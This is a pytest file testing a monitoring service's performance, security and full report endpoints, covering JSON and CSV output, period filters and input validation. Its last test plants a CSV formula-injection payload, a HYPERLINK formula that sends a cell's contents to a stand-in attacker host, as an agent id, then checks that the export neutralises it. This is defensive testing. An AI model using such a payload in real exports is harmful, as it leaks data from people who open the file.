"""GET /api/v1/reports/{kind}: performance, security and full reports of a tenant over a
period, as JSON and CSV, from rows written as the loader writes them."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import orjson
import pytest
from clickhouse_connect.driver.client import Client
from fastapi.testclient import TestClient
from pydantic import ValidationError

from agentwatch.settings import Settings
from api.app import create_app
from infra.broker import free_port
from sinks.clickhouse import connect, create_schema
from tests.conftest import LOOPBACK_CLIENT
from tests.test_api import METRIC_COLUMNS, NOW, THREAT_COLUMNS, at, threat_row

EVENT_COLUMNS = ("type", "agent_id", "tenant_id", "actor", "timestamp", "payload", "channel")
SCORE_COLUMNS = ("agent_id", "tenant_id", "timestamp", "score", "delta", "cause", "first_seen")
ALERT_COLUMNS = (
    "fingerprint", "agent_id", "tenant_id", "rule", "category", "severity", "state",
    "started_at", "fired_at", "resolved_at", "last_seen", "updated_at", "flapping",
    "flap_count", "summary", "evidence", "silenced",
)  # fmt: skip
INCIDENT_COLUMNS = (
    "incident_id", "tenant_id", "rule", "category", "severity", "agent_ids", "truncated",
    "first_seen", "last_seen", "revision",
)  # fmt: skip
ANOMALY_COLUMNS = (
    "agent_id", "tenant_id", "timestamp", "score", "threshold", "is_anomaly", "detector",
    "top_feature", "reasons",
)  # fmt: skip
DAY = 86_400.0


def heartbeat(agent: str, tenant: str, ago: float, cpu: float, error_rate: float,
              completed: int, failed: int, response_ms: float = 200.0) -> tuple:  # fmt: skip
    return (agent, tenant, at(ago), cpu, 50.0, 30.0, 10.0, 1, completed, failed, error_rate,
            response_ms, 1000.0 - ago / 100, 0, "")  # fmt: skip


def event(kind: str, agent: str, tenant: str, ago: float, channel: str, **payload) -> tuple:
    return (kind, agent, tenant, "ops", at(ago), orjson.dumps(payload).decode(), channel)


@pytest.fixture
def reports_settings(make_settings, chdb_dir) -> Settings:
    """The session's chDB, a fresh database; no broker needed (nothing is published)."""
    return make_settings(
        clickhouse_dsn=f"chdb://{chdb_dir}",
        bootstrap_servers=f"127.0.0.1:{free_port()}",
        api_projection_metadata_timeout_s=0.1,  # (the app's shutdown waits this long)
    )


@pytest.fixture
def fleet(reports_settings: Settings) -> Iterator[tuple[TestClient, Client]]:
    """Tenant t1: a1 (busy, errors, threats, low score, quarantined), a2 (healthy);
    tenant t2: b1; plus rows two days old that a day's report leaves out."""
    settings = reports_settings
    client = connect(settings)
    create_schema(client, settings)

    def put(table: str, rows: list[tuple], columns: tuple) -> None:
        client.insert(table, rows, column_names=columns, database=settings.clickhouse_database)

    put("metrics", [
        heartbeat("a1", "t1", 3600, 90.0, 0.30, 100, 10, 900.0),
        heartbeat("a1", "t1", 1800, 95.0, 0.40, 120, 16, 1100.0),
        heartbeat("a2", "t1", 3600, 20.0, 0.01, 50, 0),
        heartbeat("a2", "t1", 1800, 30.0, 0.01, 80, 1),
        heartbeat("b1", "t2", 1800, 60.0, 0.05, 10, 0),
        heartbeat("a2", "t1", 2 * DAY, 25.0, 0.01, 5, 0),  # outside the last day
    ], METRIC_COLUMNS)  # fmt: skip
    put("threats", [
        threat_row("a1", 1700),
        threat_row("a1", 1600, rule="data_exfiltration", category="SECURITY", severity="CRITICAL"),
        threat_row("a2", 1500),
        threat_row("a1", 2 * DAY),  # outside the last day
    ], THREAT_COLUMNS)  # fmt: skip
    put("agent_events", [
        event("status_changed", "a1", "t1", 4000, "state", to="busy"),
        event("quarantine_requested", "a1", "t1", 1550, "control", reason="exfiltration"),
        event("status_changed", "a1", "t1", 1500, "state", to="quarantined"),
        event("status_changed", "a2", "t1", 4000, "state", to="active"),
        event("status_changed", "b1", "t2", 4000, "state", to="maintenance"),
    ], EVENT_COLUMNS)  # fmt: skip
    put("security_scores", [
        ("a1", "t1", at(1700), 80.0, -20.0, "high_error_rate", at(1700)),
        ("a1", "t1", at(1600), 50.0, -30.0, "data_exfiltration", at(1600)),
        ("a2", "t1", at(1500), 85.0, -15.0, "high_error_rate", at(1500)),
        ("b1", "t2", at(1500), 10.0, -90.0, "data_exfiltration", at(1500)),
    ], SCORE_COLUMNS)  # fmt: skip
    put("alerts", [
        ("fp1", "a1", "t1", "high_error_rate", "PERFORMANCE", "HIGH", "firing", at(1700),
         at(1650), None, at(1650), at(1650), False, 0, "", "", False),
        ("fp1", "a1", "t1", "high_error_rate", "PERFORMANCE", "HIGH", "resolved", at(1700),
         at(1650), at(900), at(900), at(900), False, 0, "", "", False),
        ("fp2", "a2", "t1", "high_error_rate", "PERFORMANCE", "HIGH", "firing", at(1500),
         at(1450), None, at(1450), at(1450), False, 0, "", "", False),
    ], ALERT_COLUMNS)  # fmt: skip
    put("anomalies", [
        ("a1", "t1", at(1800), 0.9995, 0.999, True, "hst", "cpu_usage", "[]"),
        ("a2", "t1", at(1800), 0.2, 0.999, False, "hst", "cpu_usage", "[]"),
    ], ANOMALY_COLUMNS)  # fmt: skip
    put("incidents", [
        ("i1", "t1", "high_error_rate", "PERFORMANCE", "HIGH", ["a1", "a2"], False, at(1700),
         at(1500), 1),
    ], INCIDENT_COLUMNS)  # fmt: skip
    app = create_app(settings, client=client, run_loader=False)
    with TestClient(app, client=LOOPBACK_CLIENT) as api:
        yield api, client
    client.command(f"DROP DATABASE IF EXISTS {settings.clickhouse_database}")
    client.close()


def test_performance_report_of_a_tenant(fleet):
    api, _ = fleet
    answer = api.get("/api/v1/reports/performance", params={"tenant": "t1"})
    assert answer.status_code == 200, answer.text
    report = answer.json()
    assert report["kind"] == "performance" and report["tenant_id"] == "t1"
    assert report["security"] is None and report["incidents"] is None
    perf = report["performance"]
    fleet_figures = perf["fleet"]
    assert fleet_figures["agents"] == 2 and fleet_figures["heartbeats"] == 4  # not b1, not old
    assert fleet_figures["cpu_avg"] == pytest.approx((90 + 95 + 20 + 30) / 4)
    assert fleet_figures["tasks_completed"] == (120 - 100) + (80 - 50)
    assert fleet_figures["tasks_failed"] == 6 + 1
    assert fleet_figures["error_rate_avg"] == pytest.approx((0.3 + 0.4 + 0.01 + 0.01) / 4)
    assert [a["agent_id"] for a in perf["agents"]] == ["a1", "a2"]  # worst error rate first
    a1 = perf["agents"][0]
    assert a1["heartbeats"] == 2 and a1["tasks_completed"] == 20 and a1["tasks_failed"] == 6
    assert a1["response_time_p95"] >= a1["response_time_p50"] >= 900
    assert a1["uptime_s"] == pytest.approx(1000 - 18)  # the latest heartbeat's
    assert perf["states"] == {"quarantined": 1, "active": 1}
    assert perf["agents_truncated"] is False
    limited = api.get("/api/v1/reports/performance", params={"tenant": "t1", "limit": 1}).json()
    assert [a["agent_id"] for a in limited["performance"]["agents"]] == ["a1"]
    assert limited["performance"]["agents_truncated"] is True


def test_security_report_of_a_tenant(fleet):
    api, _ = fleet
    security = api.get("/api/v1/reports/security", params={"tenant": "t1"}).json()["security"]
    assert security["threats"] == 3
    assert security["threats_by"][0] == {
        "rule": "high_error_rate", "category": "PERFORMANCE", "severity": "HIGH",
        "threats": 2, "agents": 2,
    }  # fmt: skip
    assert security["score_bands"] == {"high": 1, "medium": 1, "low": 0, "critical": 0}
    assert security["quarantines"] == {"requested": 1, "begun": 1, "released": 0}
    assert security["quarantined_now"] == 1
    assert security["alerts"] == {"fired": 2, "resolved": 1}
    top = security["top_agents"]
    assert [(a["agent_id"], a["threats"], a["critical"]) for a in top] == [
        ("a1", 2, 1), ("a2", 1, 0)
    ]  # fmt: skip


def test_full_report_of_every_tenant_and_its_csv(fleet):
    api, _ = fleet
    report = api.get("/api/v1/reports/full").json()
    assert report["tenant_id"] is None
    assert report["performance"]["fleet"]["agents"] == 3
    assert report["security"]["score_bands"]["critical"] == 1  # b1, of t2
    assert report["anomalies"] == {"anomalies": 1, "agents": 1}
    assert report["incidents"]["count"] == 1
    assert report["incidents"]["latest"][0]["agent_ids"] == ["a1", "a2"]

    answer = api.get("/api/v1/reports/full", params={"format": "csv", "tenant": "t1"})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert rows[0] == ["section", "name", "value"]
    values = {(section, name): value for section, name, value in rows[1:]}
    assert values[("performance", "agents")] == "2"
    assert values[("states", "quarantined")] == "1"
    assert values[("anomalies", "anomalies")] == "1"
    assert values[("report", "tenant_id")] == "t1"


def test_csv_tables_of_performance_and_security(fleet):
    api, _ = fleet
    performance = api.get(
        "/api/v1/reports/performance", params={"tenant": "t1"}, headers={"Accept": "text/csv"}
    )
    assert performance.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(performance.text)))
    assert [r["agent_id"] for r in rows] == ["a1", "a2"]
    assert rows[0]["tasks_completed"] == "20" and rows[0]["tenant_id"] == "t1"
    security = api.get("/api/v1/reports/security", params={"tenant": "t1", "format": "csv"})
    table = list(csv.reader(io.StringIO(security.text)))
    assert table[0] == ["rule", "category", "severity", "threats", "agents"]
    assert len(table) == 1 + 2
    # format=json wins over the Accept header
    as_json = api.get(
        "/api/v1/reports/security", params={"format": "json"}, headers={"Accept": "text/csv"}
    )
    assert as_json.headers["content-type"] == "application/json"


def test_period_and_empty_period(fleet):
    api, _ = fleet
    old = api.get(
        "/api/v1/reports/full",
        params={"tenant": "t1", "since": NOW - 3 * DAY, "until": NOW - DAY},
    ).json()
    assert old["performance"]["fleet"]["heartbeats"] == 1  # a2's old heartbeat
    assert old["security"]["threats"] == 1
    assert old["performance"]["states"] == {}  # no status change yet then
    empty = api.get(
        "/api/v1/reports/full",
        params={"tenant": "t1", "since": NOW - 30 * DAY, "until": NOW - 20 * DAY},
    )
    assert empty.status_code == 200, empty.text
    report = empty.json()
    fleet_figures = report["performance"]["fleet"]
    assert fleet_figures["agents"] == 0 and fleet_figures["heartbeats"] == 0
    assert fleet_figures["cpu_avg"] is None and fleet_figures["tasks_completed"] == 0
    assert report["performance"]["agents"] == [] and report["security"]["threats_by"] == []
    assert report["security"]["top_agents"] == [] and report["incidents"]["count"] == 0
    csv_rows = api.get(
        "/api/v1/reports/performance",
        params={"since": NOW - 30 * DAY, "until": NOW - 20 * DAY, "format": "csv"},
    ).text.splitlines()
    assert len(csv_rows) == 1 and csv_rows[0].startswith("agent_id,tenant_id,")


def test_a_report_nobody_can_make_is_refused_with_the_reason(fleet):
    api, _ = fleet
    unknown = api.get("/api/v1/reports/weekly")
    assert unknown.status_code == 422 and "kind" in unknown.json()["message"]
    backwards = api.get("/api/v1/reports/full", params={"since": NOW, "until": NOW - DAY})
    assert backwards.status_code == 422 and "since" in backwards.json()["message"]
    bad_format = api.get("/api/v1/reports/full", params={"format": "xml"})
    assert bad_format.status_code == 422


@pytest.mark.parametrize(
    ("bands", "message"),
    [
        ({}, "at least one band is needed"),
        ({"high": 180.0, "low": 0.0}, "the floor of band 'high' must be a score from 0 to 100"),
        ({"high": float("nan")}, "the floor of band 'high' must be a score from 0 to 100"),
    ],
)
def test_score_bands_without_a_band_or_with_a_floor_off_the_scale_are_refused(
    bands: dict, message: str
) -> None:
    """No band made every security report fail; a floor of NaN put no agent in its band."""
    with pytest.raises(ValidationError, match=message):
        Settings(report_score_bands=bands)


def test_what_agents_named_is_text_in_a_csv_report_never_a_formula(fleet, reports_settings):
    """An agent chooses its id: ``=HYPERLINK(…)`` in a CSV report ran as a formula when an
    operator opened it in a spreadsheet, and could send neighbouring cells away (found by a
    review). Every cell that a spreadsheet would read as a formula starts with ``'``."""
    api, client = fleet
    named = '=HYPERLINK("https://evil.example/?t="&B2,"open me")'
    client.insert("metrics", [heartbeat(named, "t1", 1200, 10.0, 0.01, 5, 0)],
                  column_names=METRIC_COLUMNS,
                  database=reports_settings.clickhouse_database)  # fmt: skip
    answer = api.get("/api/v1/reports/performance", params={"tenant": "t1", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert "'" + named in [r["agent_id"] for r in rows]
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values())
